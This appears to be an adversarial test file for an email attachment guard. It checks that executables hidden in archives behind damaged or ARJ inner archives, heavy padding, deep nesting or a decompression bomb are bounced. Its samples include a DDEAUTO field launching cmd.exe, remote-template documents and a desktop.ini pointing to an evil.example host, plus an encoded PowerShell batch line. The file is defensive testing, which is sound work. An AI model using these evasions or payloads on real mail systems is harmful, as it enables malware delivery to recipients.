import { type SesReceiptVerdicts, tarArchive, tarEntry, USTAR_MAGIC, zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit } from './attacker-kit.js';
import { sesGuardKit } from './ses-guard-kit.js';
import { useTwinStack } from './twin-kit.js';

// Attacker round 122 (the deciding machinery: limits, and what comes after one). `ALLOW_UNLISTED_ARCHIVES=true`
// delivers archives whose files cannot all be named (encrypted headers, ACE/ARJ, damaged), and round 97 promised
// that "the archive's other files are still listed, so a blocked name among them is refused". Two ways around it:
// - the first problem met ended the listing: every file after a damaged archive inside, an ACE file inside, or
//   any other unlisted file was never named, so `invoice.exe` placed after one was delivered;
// - the guard's own bounds (10,000 files, archives nested 4 deep, 64 MiB decoded for archives inside) were filed
//   as "unlisted", so a sender who pads a zip to 10,001 files, nests it five deep or packs a bomb before the
//   executable had it delivered, where a 40 MB archive (the same kind of bound) is refused with the setting on;
// - what the walk found and refuses (a document's DDE field, its template on another computer or a server, a
//   desktop.ini fetching from a share) was filed as "cannot all be listed" too: the setting delivered a `.docx` with
//   a DDEAUTO field or a template on `\\evil.example`, which rounds 49 and 118 refuse.
const stack = useTwinStack();
const kit = attackerKit(stack);
const sesGuard = sesGuardKit(stack);
const PASS: SesReceiptVerdicts = { spam: 'PASS', virus: 'PASS', spf: 'PASS', dkim: 'PASS', dmarc: 'PASS' };
const UNLISTED = { ALLOW_UNLISTED_ARCHIVES: 'true' };

const EXE = Buffer.from('MZ\x90\x00\x03\x00\x00\x00this program cannot be run in DOS mode', 'latin1');
const PDF = Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n', 'latin1');
// A zip inside that no reader lists: a local header and nothing after it (no central directory).
const DAMAGED = Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00garbage that is no zip', 'latin1');
// An ARJ archive inside (its signature, then a header the walk does not read: ARJ is not read).
const ARJ = Buffer.concat([Buffer.from([0x60, 0xea, 0x28, 0x00]), Buffer.alloc(60, 0x41)]);
const tarFile = (name: string, data: Buffer) => tarEntry(name, data, '0', USTAR_MAGIC);

/** `invoice.exe` at the bottom of `levels` zips, each inside the one before. */
function nested(levels: number, last: Buffer = EXE, name = 'invoice.exe'): Buffer {
  let zip = zipFile([{ name, data: last }]);
  for (let i = levels - 1; i > 0; i--) zip = zipFile([{ name: `level${i}.zip`, data: zip, method: 0 }]);
  return zip;
}

/** `count` empty text files, then `last`. */
function padded(count: number, last: { name: string; data: Buffer }): Buffer {
  const files = Array.from({ length: count }, (_, i) => ({ name: `f${i}.txt`, data: '', method: 0 }));
  return zipFile([...files, last]);
}

// A tar of 65 MiB of zeros and then invoice.exe, deflated (about 64 kB) into the zip: over the 64 MiB decoded for
// the archives inside, so the tar's files after the bound are never named.
const BOMB = () =>
  zipFile([
    {
      name: 'docs.tar',
      data: tarArchive(tarFile('fill.bin', Buffer.alloc(65 * 1024 * 1024)), tarFile('invoice.exe', EXE)),
    },
  ]);

describe('A122-1: a blocked file after a problem the setting excuses', () => {
  const cases: Record<string, Buffer> = {
    'zip: a damaged zip inside, then invoice.exe': zipFile([
      { name: 'old.zip', data: DAMAGED, method: 0 },
      { name: 'invoice.exe', data: EXE },
    ]),
    'zip: an ARJ archive inside, then invoice.exe': zipFile([
      { name: 'old.arj', data: ARJ, method: 0 },
      { name: 'invoice.exe', data: EXE },
    ]),
    'tar: a damaged zip inside, then docs/update.bat': tarArchive(
      tarFile('docs/old.zip', DAMAGED),
      tarFile('docs/update.bat', Buffer.from('@echo off\r\npowershell -enc AAAA\r\n', 'latin1')),
    ),
  };
  for (const [name, archive] of Object.entries(cases)) {
    it(`${name}: bounced with ALLOW_UNLISTED_ARCHIVES`, async () => {
      const [message] = attachedFile(name.startsWith('tar') ? 'CV.tar' : 'CV.zip', archive);
      expect((await kit.inbound(message, UNLISTED)).verdict).toBe('BOUNCE');
    });
  }

  it('guard-ses: a damaged zip inside, then invoice.exe, is not delivered with ALLOW_UNLISTED_ARCHIVES', async () => {
    const [message] = attachedFile('CV.zip', cases['zip: a damaged zip inside, then invoice.exe'] as Buffer);
    const answer = await sesGuard(message, PASS, 'x@evil.example', UNLISTED);
    expect(answer.disposition).not.toBe('CONTINUE');
  });
});

describe("A122-2: the guard's own bounds are not an unlisted archive", () => {
  it('a zip of 10,000 files, then invoice.exe: bounced with ALLOW_UNLISTED_ARCHIVES', async () => {
    const [message] = attachedFile('photos.zip', padded(10_000, { name: 'invoice.exe', data: EXE }));
    expect((await kit.inbound(message, UNLISTED)).verdict).toBe('BOUNCE');
  });

  it('invoice.exe five zips deep: bounced with ALLOW_UNLISTED_ARCHIVES', async () => {
    const [message] = attachedFile('CV.zip', nested(5));
    expect((await kit.inbound(message, UNLISTED)).verdict).toBe('BOUNCE');
  });

  it('invoice.exe after 65 MiB in a tar inside a zip: bounced with ALLOW_UNLISTED_ARCHIVES', async () => {
    const [message] = attachedFile('CV.zip', BOMB());
    expect((await kit.inbound(message, UNLISTED)).verdict).toBe('BOUNCE');
  });

  it('(held) invoice.exe five zips deep: bounced at the defaults', async () => {
    const [message] = attachedFile('CV.zip', nested(5));
    expect((await kit.inbound(message)).verdict).toBe('BOUNCE');
  });

  it('guard-ses: invoice.exe five zips deep is not delivered with ALLOW_UNLISTED_ARCHIVES', async () => {
    const [message] = attachedFile('CV.zip', nested(5));
    const answer = await sesGuard(message, PASS, 'x@evil.example', UNLISTED);
    expect(answer.disposition).not.toBe('CONTINUE');
  });
});

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const body = (xml: string) =>
  `<?xml version="1.0"?><w:document xmlns:w="${W}"><w:body>${xml}</w:body></w:document>`;
const LETTER = body('<w:p><w:r><w:t>Please find the letter attached.</w:t></w:r></w:p>');
const ddeauto = zipFile([
  {
    name: 'word/document.xml',
    data: body(
      '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
    ),
  },
]);
// A `.docx` whose template is `target` (settings.xml names it, its relationships say where).
const templated = (target: string) =>
  zipFile([
    { name: 'word/document.xml', data: LETTER },
    {
      name: 'word/settings.xml',
      data: `<?xml version="1.0"?><w:settings xmlns:w="${W}" xmlns:r="${REL}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
    },
    {
      name: 'word/_rels/settings.xml.rels',
      data: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
    },
  ]);
const desktopIni = zipFile([
  {
    name: 'Photos/IMG_0001.jpg',
    data: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46]),
  },
  {
    name: 'Photos/desktop.ini',
    data: '[.ShellClassInfo]\r\nIconResource=\\\\evil.example\\s\\folder.ico,0\r\n',
  },
]);

describe('A122-3: what the walk refuses is not an unlisted archive', () => {
  const cases: Record<string, [string, Buffer, string?]> = {
    'a .docx with a DDEAUTO field': ['Invoice.docx', ddeauto, DOCX],
    'a .docx whose template is on another computer': [
      'Letter.docx',
      templated('file:///\\\\evil.example\\t\\Letterhead.dotx'),
      DOCX,
    ],
    'a .docx whose template is on a server': ['Letter.docx', templated('http://evil.example/t.dotm'), DOCX],
    'a zip whose desktop.ini fetches its icon from a share': ['Photos.zip', desktopIni],
    'a zip holding a .docx with a DDEAUTO field after a damaged zip': [
      'docs.zip',
      zipFile([
        { name: 'old.zip', data: DAMAGED, method: 0 },
        { name: 'Invoice.docx', data: ddeauto },
      ]),
    ],
  };
  for (const [name, [file, data, type]] of Object.entries(cases)) {
    it(`${name}: bounced with ALLOW_UNLISTED_ARCHIVES`, async () => {
      const [message] = attachedFile(file, data, type);
      expect((await kit.inbound(message, UNLISTED)).verdict).toBe('BOUNCE');
    });
  }

  it('guard-ses: a .docx with a DDEAUTO field is not delivered with ALLOW_UNLISTED_ARCHIVES', async () => {
    const [message] = attachedFile('Invoice.docx', ddeauto, DOCX);
    const answer = await sesGuard(message, PASS, 'x@evil.example', UNLISTED);
    expect(answer.disposition).not.toBe('CONTINUE');
  });
});

describe('A122: controls', () => {
  it('(control) a letter, and one whose template is Normal.dotm: delivered with ALLOW_UNLISTED_ARCHIVES', async () => {
    const letter = zipFile([{ name: 'word/document.xml', data: LETTER }]);
    for (const docx of [letter, templated('Normal.dotm')]) {
      const [message] = attachedFile('Letter.docx', docx, DOCX);
      expect((await kit.inbound(message, UNLISTED)).verdict).toBe('DEFAULT');
    }
  });

  it('(control) a damaged zip inside, then a PDF: still delivered unread with ALLOW_UNLISTED_ARCHIVES', async () => {
    const [message] = attachedFile(
      'CV.zip',
      zipFile([
        { name: 'old.zip', data: DAMAGED, method: 0 },
        { name: 'CV.pdf', data: PDF },
      ]),
    );
    const { verdict, delivered } = await kit.inbound(message, UNLISTED);
    expect(verdict).toBe('DEFAULT');
    expect(delivered.toString('latin1')).toContain(
      message.toString('latin1').split('\r\n\r\n').at(-1)?.slice(0, 60),
    );
  });

  it('(control) an ARJ archive inside, then a PDF: delivered with ALLOW_UNLISTED_ARCHIVES', async () => {
    const [message] = attachedFile(
      'CV.zip',
      zipFile([
        { name: 'old.arj', data: ARJ, method: 0 },
        { name: 'CV.pdf', data: PDF },
      ]),
    );
    expect((await kit.inbound(message, UNLISTED)).verdict).toBe('DEFAULT');
  });

  it('(control) notes three zips inside a zip: delivered at the defaults', async () => {
    const [message] = attachedFile('CV.zip', nested(4, Buffer.from('minutes of the meeting\n'), 'notes.txt'));
    expect((await kit.inbound(message)).verdict).toBe('DEFAULT');
  });

  it('(control) a zip of 500 files: delivered at the defaults', async () => {
    const [message] = attachedFile('photos.zip', padded(499, { name: 'CV.pdf', data: PDF }));
    expect((await kit.inbound(message)).verdict).toBe('DEFAULT');
  });

  it('(control) guard-ses delivers a zip with a PDF', async () => {
    const [message] = attachedFile('CV.zip', zipFile([{ name: 'CV.pdf', data: PDF }]));
    const answer = await sesGuard(message, PASS, 'x@evil.example', UNLISTED);
    expect(answer.disposition).toBe('CONTINUE');
  });
});
